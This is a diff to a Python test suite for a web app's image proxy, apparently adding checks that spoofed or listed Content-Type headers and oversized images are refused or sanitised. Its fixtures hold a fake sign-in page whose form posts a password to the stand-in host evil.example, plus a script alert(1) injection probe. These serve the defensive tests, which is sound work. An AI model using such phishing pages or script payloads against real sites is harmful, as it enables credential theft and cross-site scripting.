@@ -1,6 +1,7 @@
 """External images in project descriptions (issue 11): off by default, where they are shown as
 links and the proxy answers nothing; on, through `/image-proxy/<hmac>/<hex url>` with the server's
-own headers, no cookies either way, raster images only, a size cap, and an SSRF guard that
+own headers, no cookies either way, raster images only (served as the one type their bytes
+prove, never the origin's Content-Type), a size cap, and an SSRF guard that
 refuses loopback (here admitted only by the test knob) and private addresses, also after a
 redirect. The images come from a real HTTP server on 127.0.0.1. The rewrite happens when a page
 is built, so turning the proxy on takes effect at the next start without re-rendering."""
@@ -23,6 +24,7 @@ PNG = bytes.fromhex(
     "1f15c4890000000d49444154789c6360000002000001e221bc330000000049454e44ae426082"
 )
 MAX_BYTES = 4096
+PHISHING = b"<!doctype html><title>Sign in</title><form action=https://evil.example/>password</form>"
 
 
 class _Images(http.server.BaseHTTPRequestHandler):
@@ -52,6 +54,21 @@ class _Images(http.server.BaseHTTPRequestHandler):
         elif self.path == "/slow.png":
             time.sleep(4)
             self._send(200, "image/png", PNG)
+        elif self.path == "/listed.png":
+            # a list of types: a browser takes the last one, so passed on this would be a page
+            self._send(200, "image/png, text/html", PHISHING)
+        elif self.path == "/html.png":
+            self._send(200, "image/png", PHISHING)
+        elif self.path == "/twice.png":
+            self.send_response(200)
+            self.send_header("Content-Type", "image/png")
+            self.send_header("Content-Type", "text/html")
+            self.send_header("Content-Length", str(len(PNG)))
+            self.end_headers()
+            self.wfile.write(PNG)
+        elif self.path == "/mislabelled.jpg":
+            # a PNG declared as a JPEG, in capitals with a parameter: served as what its bytes are
+            self._send(200, "IMAGE/JPEG; charset=binary", PNG)
         elif self.path == "/page.html":
             self._send(200, "text/html", b"<script>alert(1)</script>")
         elif self.path == "/logo.svg":
@@ -84,7 +101,8 @@ def image_server():
     httpd.server_close()
 
 
-NAMES = ["ok", "big", "page", "svg", "to-private", "to-ok", "by-name", "endless", "slow"]
+NAMES = ["ok", "big", "page", "svg", "to-private", "to-ok", "by-name", "endless", "slow",
+         "listed", "html", "twice", "mislabelled", "tall", "wide"]
 
 
 def description(base: str) -> str:
@@ -99,6 +117,12 @@ def description(base: str) -> str:
         f"![to-ok]({base}/to-ok.png)",
         f"![endless]({base}/endless.png)",
         f"![slow]({base}/slow.png)",
+        f"![listed]({base}/listed.png)",
+        f"![html]({base}/html.png)",
+        f"![twice]({base}/twice.png)",
+        f"![mislabelled]({base}/mislabelled.jpg)",
+        # absurd dimensions (the page would be 10^8 px tall) are dropped when rendered
+        f'<p><img src="{base}/ok.png" alt="tall" width="1" height="99999999"><img src="{base}/ok.png" alt="wide" width="99999999" height="20"></p>',
         # a name that resolves to loopback: the resolver's check, not the literal's
         f"![by-name](http://localhost:{port}/ok.png)",
     ])
@@ -155,6 +179,10 @@ def test_images_are_links_by_default_and_proxied_once_turned_on(strongroom, back
     for alt, src in sources.items():
         assert src.startswith("/image-proxy/"), (alt, src)
         assert image_server not in src and "localhost" not in src
+    tags = {re.search(r'alt="([^"]*)"', t).group(1): t for t in re.findall(r"<img [^>]*>", description_of(page))}
+    assert 'width="20"' in tags["ok"], tags["ok"]
+    assert 'width="1"' in tags["tall"] and "height" not in tags["tall"], tags["tall"]
+    assert 'height="20"' in tags["wide"] and "width" not in tags["wide"], tags["wide"]
 
     # served through the proxy with our headers only; the browser's cookie is not passed on,
     # the image host's cookie is not passed back
@@ -179,6 +207,19 @@ def test_images_are_links_by_default_and_proxied_once_turned_on(strongroom, back
     assert on.get(sources["big"]).status_code == 502
     assert on.get(sources["page"]).status_code == 502
     assert on.get(sources["svg"]).status_code == 502
+    # the served type is never the origin's: a list of types (a browser would read the last,
+    # text/html), two Content-Type headers, or HTML labelled image/png are refused; an image is
+    # served as the one type its bytes prove, whatever it was declared as
+    for alt in ("listed", "html", "twice"):
+        r = on.get(sources[alt])
+        assert r.status_code == 502, (alt, r.status_code, r.headers, r.text)
+        assert "passes on PNG, JPEG, GIF, WebP, AVIF and icon images only" in r.text, (alt, r.text)
+        assert b"Sign in" not in r.content and r.headers["Content-Type"] == "text/plain; charset=utf-8", alt
+    r = on.get(sources["mislabelled"])
+    assert r.status_code == 200, (r.status_code, r.text)
+    assert r.content == PNG and r.headers["Content-Type"] == "image/png", r.headers
+    assert r.headers["X-Content-Type-Options"] == "nosniff"
+    assert r.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
     r = on.get(sources["to-private"])
     assert r.status_code == 403, (r.status_code, r.text)
     # too slow: the timeout answers (the image server sleeps 4 s, the proxy waits 2)
